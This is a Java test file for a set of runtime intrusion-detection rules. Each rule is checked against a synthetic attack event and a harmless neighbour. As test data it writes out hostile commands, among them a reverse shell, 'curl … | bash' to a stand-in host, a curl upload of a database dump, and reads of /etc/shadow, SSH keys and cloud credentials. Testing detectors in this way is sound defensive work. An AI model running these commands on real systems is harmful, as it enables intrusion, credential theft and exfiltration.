package io.gyr.rules.starter;

import static io.gyr.rules.TestEvent.call;
import static io.gyr.rules.TestEvent.connect;
import static io.gyr.rules.TestEvent.execve;
import static io.gyr.rules.TestEvent.open;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.gyr.rules.LoadResult;
import io.gyr.rules.Match;
import io.gyr.rules.Priority;
import io.gyr.rules.Rule;
import io.gyr.rules.RuleLoader;
import io.gyr.rules.TestEvent;
import io.gyr.rules.event.SyscallFacts;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every rule of the starter set fires on what it is for, and keeps quiet on the nearest thing that
 * is harmless.
 */
class StarterRulesTest {

  private static final LoadResult LOADED = RuleLoader.load(StarterRules.load());
  private static final String READ = "O_RDONLY|O_CLOEXEC";
  private static final String WRITE = "O_WRONLY|O_CREAT|O_TRUNC";

  /** Rule, event that fires it, event that does not. */
  static Stream<Arguments> cases() {
    return Stream.of(
        arguments(
            "Shell in container",
            execve("/bin/sh", "-c", "id").childOf("java").inContainer("shop:1"),
            execve("/bin/sh", "-c", "id").childOf("java")),
        arguments(
            "Terminal shell in container",
            execve("/bin/bash").childOf("runc").onTerminal().inContainer("shop:1"),
            execve("/bin/bash").childOf("sshd").onTerminal()),
        arguments(
            "Reverse shell",
            call("dup2").by("/bin/bash", "-i").socket("203.0.113.9", 4444).result(1),
            call("dup2").by("/bin/bash", "-i").socket("203.0.113.9", 4444).result(7)),
        arguments(
            "Database started a shell",
            execve("/bin/sh", "-c", "id").childOf("postgres"),
            execve("/usr/bin/pg_dump").childOf("postgres")),
        arguments(
            "Web server started a shell",
            execve("/bin/sh", "-c", "id").childOf("nginx"),
            execve("/bin/sh", "-c", "id").childOf("make")),
        arguments(
            "Sensitive file read",
            open("/etc/shadow", READ).by("/usr/bin/cat", "/etc/shadow").childOf("bash"),
            open("/etc/shadow", READ).by("/usr/bin/sudo", "id").childOf("bash")),
        arguments(
            "SSH key read",
            open("/home/ann/.ssh/id_ed25519", READ).by("/usr/bin/cat"),
            open("/home/ann/.ssh/id_ed25519", READ).by("/usr/bin/ssh", "host")),
        arguments(
            "Search for credentials",
            execve("/usr/bin/grep", "-ri", "BEGIN RSA PRIVATE KEY", "/"),
            execve("/usr/bin/grep", "-r", "main", "src")),
        arguments(
            "Connection to cloud metadata service",
            connect("169.254.169.254", 80).by("/usr/bin/curl").inContainer("shop:1"),
            connect("169.254.169.254", 80).by("/usr/bin/cloud-init")),
        arguments(
            "Write below etc",
            open("/etc/passwd", WRITE).by("/usr/bin/vi"),
            open("/etc/passwd", WRITE).by("/usr/sbin/useradd", "eve")),
        arguments(
            "Write below program directory",
            open("/usr/bin/ls", WRITE).by("/usr/bin/curl"),
            open("/usr/bin/ls", WRITE).by("/usr/bin/dpkg", "-i", "coreutils")),
        arguments(
            "Cron job written",
            open("/etc/cron.d/beacon", WRITE).by("/bin/sh"),
            open("/var/spool/cron/root", WRITE).by("/usr/bin/crontab")),
        arguments(
            "Set user id bit added",
            call("fchmodat")
                .by("/usr/bin/chmod")
                .in("/tmp")
                .argument("filename", "sh")
                .argument("mode", "04755"),
            call("fchmodat")
                .by("/usr/bin/chmod")
                .argument("filename", "sh")
                .argument("mode", "0755")),
        arguments(
            "Account changed",
            execve("/usr/sbin/useradd", "eve").childOf("bash"),
            execve("/usr/sbin/useradd", "eve").childOf("sh").childOf("dpkg")),
        arguments(
            "Hidden file created",
            open("/dev/shm/.x", WRITE).by("/bin/sh"),
            open("/dev/shm/x", WRITE).by("/bin/sh")),
        arguments(
            "Symbolic link to sensitive file",
            call("symlink").argument("target", "/etc/shadow").argument("linkpath", "/tmp/notes"),
            call("symlink").argument("target", "/etc/hosts").argument("linkpath", "/tmp/notes")),
        arguments(
            "Hard link to sensitive file",
            call("linkat")
                .in("/etc")
                .argument("olddir", "AT_FDCWD")
                .argument("oldpath", "shadow")
                .argument("newdir", "AT_FDCWD")
                .argument("newpath", "/tmp/notes"),
            call("linkat").argument("oldpath", "/srv/a").argument("newpath", "/srv/b")),
        arguments(
            "Log tampered with",
            call("unlink").by("/usr/bin/rm").argument("path", "/var/log/auth.log"),
            call("unlink").by("/usr/sbin/logrotate").argument("path", "/var/log/auth.log")),
        arguments(
            "Shell history deleted",
            call("unlinkat")
                .by("/usr/bin/rm")
                .in("/root")
                .argument("dirfd", "AT_FDCWD")
                .argument("name", ".bash_history"),
            open("/root/.bash_history", "O_WRONLY|O_APPEND").by("/bin/bash")),
        arguments(
            "Mount in container",
            call("mount").by("/bin/mount").argument("dir", "/mnt").inContainer("shop:1"),
            call("mount").by("/bin/mount").argument("dir", "/mnt")),
        arguments(
            "Namespace changed",
            call("setns").by("/usr/bin/nsenter").argument("nstype", "CLONE_NEWNS"),
            call("setns").by("/usr/bin/runc").argument("nstype", "CLONE_NEWNS")),
        arguments(
            "Container runtime socket opened",
            call("connect").by("/usr/bin/curl").fd(4, "unix", "/run/docker.sock").inContainer("x"),
            call("connect").by("/usr/bin/docker").fd(4, "unix", "/run/docker.sock")),
        arguments(
            "Process injection by ptrace",
            call("ptrace").by("/tmp/inject").argument("request", "PTRACE_POKETEXT"),
            call("ptrace").by("/usr/bin/gdb").argument("request", "PTRACE_POKETEXT")),
        arguments(
            "Kernel module loaded",
            call("finit_module").by("/tmp/rootkit"),
            call("finit_module").by("/usr/sbin/modprobe", "nfs")),
        arguments(
            "Privileges raised in container",
            execve("/usr/bin/sudo", "-i").inContainer("shop:1"),
            execve("/usr/bin/sudo", "-i")),
        arguments(
            "Package manager in container",
            execve("/usr/bin/apt-get", "install", "nmap").childOf("bash").inContainer("shop:1"),
            execve("/usr/bin/apt-get", "upgrade").childOf("bash")),
        arguments(
            "Network tool in container",
            execve("/usr/bin/nmap", "10.0.0.0/8").inContainer("shop:1"),
            execve("/usr/bin/nmap", "10.0.0.0/8")),
        arguments(
            "Program started from temporary directory",
            execve("/dev/shm/a.out"),
            execve("/tmpfiles/a.out")),
        arguments(
            "New program started in container",
            execve("/opt/dropped")
                .argument("flags", "EXE_WRITABLE|EXE_UPPER_LAYER")
                .inContainer("x"),
            execve("/opt/shipped").argument("flags", "EXE_WRITABLE").inContainer("x")),
        arguments(
            "Crypto miner",
            connect("198.51.100.7", 3333).by("/opt/a").inContainer("shop:1"),
            connect("10.1.2.3", 3333).by("/opt/a").inContainer("shop:1")),
        arguments(
            "Outbound connection by interpreter in container",
            connect("198.51.100.7", 443)
                .by("/usr/bin/python3", "-c", "import socket")
                .inContainer("x"),
            connect("198.51.100.7", 443).by("/usr/bin/python3", "app.py").inContainer("x")));
  }

  /** The same for the rules further down the file. */
  static Stream<Arguments> moreCases() {
    return Stream.of(
        arguments(
            "Application runtime started a shell",
            execve("/bin/sh", "-c", "id").childOf("java"),
            execve("/bin/sh", "-c", "npm test").childOf("node")),
        arguments(
            "Interpreter started by web server",
            execve("/usr/bin/perl", "-e", "exec 'sh'").childOf("httpd"),
            execve("/usr/bin/perl", "app.pl").childOf("httpd")),
        arguments(
            "Service looks around",
            execve("/usr/bin/whoami").childOf("sh").childOf("nginx"),
            execve("/usr/bin/whoami").childOf("bash").childOf("sshd")),
        arguments(
            "Program run from memory",
            execve("/memfd:x").argument("flags", "EXE_FROM_MEMFD"),
            execve("/memfd:runc_cloned").by("/usr/bin/runc").argument("flags", "EXE_FROM_MEMFD")),
        arguments(
            "Library forced on program",
            execve("/usr/bin/ssh")
                .list(SyscallFacts.PROCESS_ENVIRONMENT, "LD_PRELOAD=/tmp/x.so")
                .inContainer("x"),
            execve("/usr/bin/ssh")
                .list(SyscallFacts.PROCESS_ENVIRONMENT, "LD_PRELOAD=/usr/lib/jemalloc.so")
                .inContainer("x")),
        arguments(
            "Compiler in container",
            execve("/usr/bin/gcc", "x.c").childOf("bash").inContainer("shop:1"),
            execve("/usr/bin/gcc", "x.c").childOf("bash")),
        arguments(
            "Download tool in container",
            execve("/usr/bin/wget", "http://203.0.113.9/x").childOf("sh").inContainer("x"),
            execve("/usr/bin/curl", "http://localhost/healthz").childOf("sh").inContainer("x")),
        arguments(
            "Temporary file made executable",
            call("fchmodat")
                .by("/usr/bin/chmod")
                .in("/tmp")
                .argument("filename", "x")
                .argument("mode", "0755"),
            call("fchmodat")
                .by("/usr/bin/chmod")
                .in("/tmp")
                .argument("filename", "x")
                .argument("mode", "0644")),
        arguments(
            "Password guessing tool",
            execve("/usr/bin/hydra", "-l", "root"),
            execve("/usr/bin/hydrate")),
        arguments(
            "Service unit written",
            open("/etc/systemd/system/x.service", WRITE).by("/bin/sh"),
            open("/etc/systemd/system/x.service", WRITE).by("/usr/bin/dpkg")),
        arguments(
            "Shell start file changed",
            open("/root/.bashrc", WRITE).by("/bin/sh"),
            open("/root/.bashrc", WRITE).by("/usr/bin/vim")),
        arguments(
            "Authorized keys changed",
            open("/root/.ssh/authorized_keys", WRITE).by("/bin/sh"),
            open("/root/.ssh/authorized_keys", READ).by("/usr/sbin/sshd")),
        arguments(
            "Dynamic linker configured",
            open("/etc/ld.so.preload", WRITE).by("/bin/sh"),
            open("/etc/ld.so.preload", READ).by("/bin/sh")),
        arguments(
            "Login procedure changed",
            call("rename")
                .by("/bin/mv")
                .argument("oldpath", "/tmp/su")
                .argument("newpath", "/etc/pam.d/su"),
            open("/etc/pam.d/su", WRITE).by("/usr/bin/dpkg")),
        arguments(
            "Rules of privilege changed",
            open("/etc/sudoers.d/eve", WRITE).by("/usr/bin/tee"),
            open("/etc/sudoers", WRITE).by("/usr/sbin/visudo")),
        arguments(
            "Job scheduled from container",
            execve("/usr/bin/crontab", "-e").inContainer("shop:1"),
            execve("/usr/bin/crontab", "-e")),
        arguments(
            "Capability given to file",
            execve("/usr/sbin/setcap", "cap_setuid+ep", "/tmp/x"),
            execve("/usr/sbin/setcap", "-r", "/tmp/x")),
        arguments(
            "Release agent written in container",
            open("/tmp/cgrp/release_agent", WRITE).by("/bin/sh").inContainer("x"),
            open("/tmp/cgrp/release_agent", READ).by("/bin/sh").inContainer("x")),
        arguments(
            "Kernel setting changed in container",
            open("/proc/sys/kernel/core_pattern", WRITE).by("/bin/sh").inContainer("x"),
            open("/proc/sys/kernel/core_pattern", WRITE).by("/bin/sh")),
        arguments(
            "Host reached through proc",
            open("/proc/1/root/etc/passwd", READ).by("/bin/cat").inContainer("x"),
            open("/proc/1/status", READ).by("/bin/cat").inContainer("x")),
        arguments(
            "Shell brought into host namespace",
            execve("/usr/bin/nsenter", "-t", "1", "-m", "sh"),
            execve("/usr/bin/nsenter", "-t", "4711", "-m", "sh")),
        arguments(
            "Root directory changed in container",
            call("chroot").by("/usr/sbin/chroot").argument("path", "/mnt").inContainer("x"),
            call("chroot").by("/usr/sbin/sshd").argument("path", "/run/sshd").inContainer("x")),
        arguments(
            "Cluster client in container",
            execve("/usr/bin/kubectl", "get", "secrets").inContainer("shop:1"),
            execve("/usr/bin/kubectl", "get", "pods")),
        arguments(
            "BPF program loaded",
            call("bpf").by("/tmp/x").argument("cmd", "BPF_PROG_LOAD").result(5),
            call("bpf").by("/tmp/x").argument("cmd", "BPF_MAP_CREATE").result(5)),
        arguments(
            "Page faults handled by program",
            call("userfaultfd").by("/tmp/exploit").result(4),
            call("userfaultfd").by("/usr/bin/criu").result(4)),
        arguments(
            "Service account token read",
            open("/var/run/secrets/kubernetes.io/serviceaccount/token", READ)
                .by("/bin/cat")
                .inContainer("x"),
            open("/var/run/secrets/kubernetes.io/serviceaccount/token", READ)
                .by("/app/operator")
                .inContainer("x")),
        arguments(
            "Cloud credentials read",
            open("/root/.aws/credentials", READ).by("/bin/cat"),
            open("/root/.aws/credentials", READ).by("/usr/bin/aws", "s3", "ls")),
        arguments(
            "Memory of process read",
            open("/proc/812/mem", "O_RDWR").by("/tmp/x"),
            open("/proc/812/mem", "O_RDWR").by("/usr/bin/gdb")),
        arguments(
            "Environment of process read",
            open("/proc/812/environ", READ).by("/usr/bin/strings"),
            open("/proc/self/environ", READ).by("/usr/bin/strings")),
        arguments(
            "Guard stopped",
            execve("/usr/bin/systemctl", "stop", "auditd"),
            execve("/usr/bin/systemctl", "restart", "auditd")),
        arguments(
            "Firewall opened",
            execve("/usr/sbin/iptables", "-F").childOf("bash"),
            execve("/usr/sbin/iptables", "-L").childOf("bash")),
        arguments(
            "Mandatory access control switched off",
            execve("/usr/sbin/setenforce", "0"),
            execve("/usr/sbin/setenforce", "1")),
        arguments(
            "Recording of commands switched off",
            execve("/bin/bash", "-c", "unset HISTFILE; id"),
            execve("/bin/bash", "-c", "echo $HISTFILE")),
        arguments(
            "Time of file forged",
            execve("/usr/bin/touch", "-r", "/bin/ls", "/tmp/x"),
            execve("/usr/bin/touch", "/tmp/x")),
        arguments(
            "File made immutable",
            execve("/usr/bin/chattr", "+i", "/etc/crontab"),
            execve("/usr/bin/chattr", "-i", "/etc/crontab")),
        arguments(
            "Process hidden by mount",
            call("mount")
                .by("/bin/mount")
                .argument("dev", "/tmp/empty")
                .argument("dir", "/proc/812"),
            call("mount").by("/bin/mount").argument("dev", "/dev/sdb1").argument("dir", "/mnt")),
        arguments(
            "Packet socket in container",
            call("socket")
                .by("/tmp/sniff")
                .argument("domain", "AF_PACKET")
                .result(3)
                .inContainer("x"),
            call("socket")
                .by("/tmp/sniff")
                .argument("domain", "AF_INET")
                .result(3)
                .inContainer("x")),
        arguments(
            "Shell waits for connections",
            call("listen").by("/usr/bin/nc", "-l", "4444").fd(3, "ipv4", "0.0.0.0:4444"),
            call("listen").by("/usr/sbin/nginx").fd(3, "ipv4", "0.0.0.0:80")),
        arguments(
            "Connection to chat server",
            connect("203.0.113.9", 6667).by("/opt/a").inContainer("shop:1"),
            connect("10.0.0.9", 6667).by("/opt/a").inContainer("shop:1")),
        arguments(
            "Anonymous proxy used",
            connect("127.0.0.1", 9050).by("/usr/bin/curl"),
            connect("127.0.0.1", 9050).by("/opt/service")),
        arguments(
            "Remote login from container",
            execve("/usr/bin/ssh", "db1").childOf("bash").inContainer("shop:1"),
            execve("/usr/bin/ssh", "git@host").childOf("git").inContainer("ci:1")),
        arguments(
            "Files carried out of container",
            execve("/usr/bin/curl", "-T", "db.sql", "http://203.0.113.9/").inContainer("x"),
            execve("/usr/bin/curl", "http://203.0.113.9/").inContainer("x")),
        arguments(
            "Data destroyed in bulk",
            execve("/usr/bin/shred", "-u", "/srv/db"),
            execve("/usr/bin/dd", "if=/dev/zero", "of=/tmp/x")),
        arguments(
            "Disk written past its file system",
            open("/dev/sda", "O_WRONLY").by("/tmp/x"),
            open("/dev/sda", "O_RDONLY").by("/tmp/x")),
        arguments(
            "Encoded command run by shell",
            execve("/bin/sh", "-c", "echo aWQK | base64 -d | sh"),
            execve("/bin/sh", "-c", "echo id | base64")),
        arguments(
            "Download piped into shell",
            execve("/bin/bash", "-c", "curl -s http://203.0.113.9/x | bash"),
            execve("/bin/bash", "-c", "curl -s http://203.0.113.9/x -o x")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({"cases", "moreCases"})
  void firesOnTheAttackAndNotOnItsHarmlessNeighbour(
      String rule, TestEvent attack, TestEvent quiet) {
    assertThat(fired(attack)).contains(rule);
    assertThat(fired(quiet)).doesNotContain(rule);
  }

  @Test
  void loadsWithoutAProblem() {
    assertThat(LOADED.problems()).as(LOADED.format()).isEmpty();
  }

  @Test
  void everyRuleHasATestAndIsTaggedAndTimeless() {
    List<String> tested =
        Stream.concat(cases(), moreCases()).map(test -> (String) test.get()[0]).toList();
    assertThat(LOADED.rules().rules())
        .extracting(Rule::name)
        .containsExactlyInAnyOrderElementsOf(tested);
    assertThat(LOADED.rules().rules())
        .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.matches("T[A0-9.]+")))
        .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.startsWith("mitre_")))
        .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.startsWith("PCI_DSS_")))
        .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.startsWith("NIST_800-53_")))
        .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.startsWith("SOC2_")))
        .hasSizeGreaterThanOrEqualTo(60);
  }

  @Test
  void readingTheShadowFileOnTheHostIsAWarningWithAllThatIsKnown() {
    TestEvent event =
        open("/etc/shadow", READ).by("/usr/bin/cat", "/etc/shadow").childOf("bash").onTerminal();
    Match match = matches(event).get(0);
    assertThat(match.rule().name()).isEqualTo("Sensitive file read");
    assertThat(match.rule().priority()).isEqualTo(Priority.WARNING);
    assertThat(match.rule().priority().severity()).isEqualTo(4);
    assertThat(match.output())
        .isEqualTo(
            "12:34:56.000000789: Warning Sensitive file opened for reading (file=/etc/shadow"
                + " command=cat /etc/shadow executable=/usr/bin/cat parent=bash user=root"
                + " loginuid=-1 container=host image=<NA>)");
    assertThat(match.outputFields())
        .containsEntry("fd.name", "/etc/shadow")
        .containsEntry("user.loginuid", -1L)
        .containsEntry("container.id", "host")
        .containsEntry("container.image", null)
        .containsEntry("evt.time", TestEvent.TIME_NS);
  }

  @Test
  void aListCanBeFilledFromAnotherFile() {
    List<io.gyr.rules.RuleFile> files = new ArrayList<>(StarterRules.load());
    files.add(
        new io.gyr.rules.RuleFile(
            "mine.yaml",
            """
            - list: my_trusted_programs
              items: [backup]
              override:
                items: append
            """));
    LoadResult tuned = RuleLoader.load(files);
    assertThat(tuned.problems()).isEmpty();
    TestEvent event = open("/etc/shadow", READ).by("/opt/backup");
    assertThat(fired(event)).contains("Sensitive file read");
    assertThat(tuned.rules().newEvaluator().evaluate(event, match -> {})).isZero();
  }

  private static List<String> fired(TestEvent event) {
    return matches(event).stream().map(match -> match.rule().name()).toList();
  }

  private static List<Match> matches(TestEvent event) {
    List<Match> matches = new ArrayList<>();
    LOADED.rules().newEvaluator().evaluate(event, matches::add);
    return matches;
  }
}
